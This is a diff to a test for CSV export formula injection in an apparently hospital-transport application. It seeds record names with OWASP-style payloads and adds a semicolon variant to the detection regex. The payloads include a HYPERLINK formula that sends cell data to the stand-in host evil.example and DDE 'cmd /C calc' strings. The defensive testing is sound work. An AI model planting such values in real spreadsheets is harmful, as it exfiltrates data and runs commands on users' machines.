@@ -8,10 +8,10 @@ import { csvRows } from '../support/csv-rows';
 import { signedIn } from './fixtures';
 import { startTestApp, type TestApp } from './harness';
 
-/** OWASP's four formula starts, as an organisation or a place could be named. */
-const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd|" /C calc"!A0'];
-// a cell a spreadsheet would evaluate: a formula start, unless it is a plain negative number
-const RUNNABLE = /^(?:[=+@\t\r\uFF1D\uFF0B\uFF20]|-(?!\d+(?:\.\d+)?$))/;
+/** OWASP's four formula starts and a semicolon's, as an organisation or a place could be named. */
+const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd|" /C calc"!A0', ';=1+1'];
+// a cell a spreadsheet would evaluate: a formula start (or a semicolon before one), unless it is a plain negative number
+const RUNNABLE = /^(?:[=+@\t\r;\uFF1D\uFF0B\uFF20\uFF1B]|-(?!\d+(?:\.\d+)?$))/;
 
 let t: TestApp;
 let auth: Record<string, string>;
@@ -20,9 +20,10 @@ beforeAll(async () => {
   await seedDemoData(t.db);
   auth = (await signedIn(t.app, t.db, 'ADMIN')).auth;
   // every facility, agency and trip place is given one of the formulas as the start of its name
-  await rawRows(t.db, sql`update hospitals set name = (array[${FORMULAS[0]}, ${FORMULAS[1]}, ${FORMULAS[2]}, ${FORMULAS[3]}])[1 + (abs(hashtext(id::text)) % 4)] || ' ' || id`);
-  await rawRows(t.db, sql`update agencies set name = (array[${FORMULAS[0]}, ${FORMULAS[1]}, ${FORMULAS[2]}, ${FORMULAS[3]}])[1 + (abs(hashtext(id::text)) % 4)] || ' ' || id`);
-  await rawRows(t.db, sql`update trips set from_location = ${FORMULAS[1]} || ' ' || id, to_location = ${FORMULAS[0]} || ' ' || id, patient_id = ${FORMULAS[2]}`);
+  const oneOf = sql`(array[${FORMULAS[0]}, ${FORMULAS[1]}, ${FORMULAS[2]}, ${FORMULAS[3]}, ${FORMULAS[4]}])[1 + (abs(hashtext(id::text)) % 5)]`;
+  await rawRows(t.db, sql`update hospitals set name = ${oneOf} || ' ' || id`);
+  await rawRows(t.db, sql`update agencies set name = ${oneOf} || ' ' || id`);
+  await rawRows(t.db, sql`update trips set from_location = ${FORMULAS[1]} || ' ' || id, to_location = ${FORMULAS[4]} || ' ' || id, patient_id = ${FORMULAS[2]}`);
 });
 afterAll(() => t.close());
 
